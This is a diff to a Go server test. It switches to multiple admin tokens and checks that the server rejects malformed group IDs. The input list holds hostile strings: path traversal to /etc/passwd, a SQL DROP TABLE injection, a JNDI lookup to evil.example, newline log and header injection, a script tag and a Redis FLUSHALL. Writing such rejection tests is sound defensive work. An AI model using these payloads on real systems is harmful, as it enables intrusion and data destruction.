@@ -89,7 +89,7 @@ func TestServer_RefusesWhatIsTooLarge(t *testing.T) {
 func TestServer_RefusesGidsThatAreMore(t *testing.T) {
 	t.Parallel()
 	s := testkit.OpenPebble(t)
-	at := start(t, s, func(c *Config, _ *Deps) { c.Bench, c.AdminToken = false, secret.New(theAdminToken) })
+	at := start(t, s, func(c *Config, _ *Deps) { c.Bench, c.AdminTokens = false, secret.NewTokens(theAdminToken) })
 	for _, gid := range []string{
 		"", " ", "../../etc/passwd", "a/b", "a b", "{other}", "*", "x:y", "a\nlevel=ERROR msg=injected", "a\r\nX-Injected: 1",
 		"'; DROP TABLE trans_global; --", "${jndi:ldap://evil.example}", "a\x00b", "ä", "\u202e", "<script>", "%0a", "gid?x=1", `a"b`, "redis.call('FLUSHALL')",
